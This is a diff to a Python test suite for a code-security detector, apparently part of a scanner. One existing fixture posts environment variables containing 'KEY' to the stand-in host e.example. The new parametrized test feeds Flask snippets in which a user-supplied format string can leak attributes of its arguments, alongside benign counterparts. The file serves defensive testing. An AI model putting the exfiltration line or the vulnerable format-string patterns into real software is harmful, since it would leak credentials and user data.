@@ -92,3 +92,23 @@ def test_variables_that_a_condition_chooses_are_a_possible_finding(tmp_path: Pat
     source = 'import os, requests\nrequests.post("https://e.example", json={k: v for k, v in os.environ.items() if "KEY" in k}, timeout=5)\n'
     (finding,) = evidence_by_case(tmp_path, [("chosen", SENT, source, "")])["shop0/hostile.py"]
     assert (finding.probe, finding.confidence) == (SENT, 0.5)
+
+
+@pytest.mark.parametrize(
+    ("hostile", "benign"),
+    [
+        ('request.args["f"].format(user=user)', '"{}".format(request.args["f"])'),
+        ('(request.args["f"] + "{}").format_map(user)', '"{f}".format_map(request.args)'),
+        ('str.format(request.args["f"], user)', 'str.format("{}", request.args["f"])'),
+        ('string.Formatter().vformat(request.args["f"], (user,), {})', 'string.Formatter().format("{}", request.args)'),
+    ],
+)
+def test_a_format_string_of_an_outsider_is_likely_to_leak_what_its_arguments_hold(
+    hostile: str, benign: str, tmp_path: Path
+) -> None:
+    begin = "import string\nfrom flask import request\ndef f(user):\n    return "
+    found = evidence_by_case(tmp_path, [("format", CODE, f"{begin}{hostile}\n", f"{begin}{benign}\n")])
+    (finding,) = found["shop0/hostile.py"]
+    assert finding.probe == CODE
+    assert 0.6 <= finding.confidence < 0.8
+    assert found["shop0/benign.py"] == []
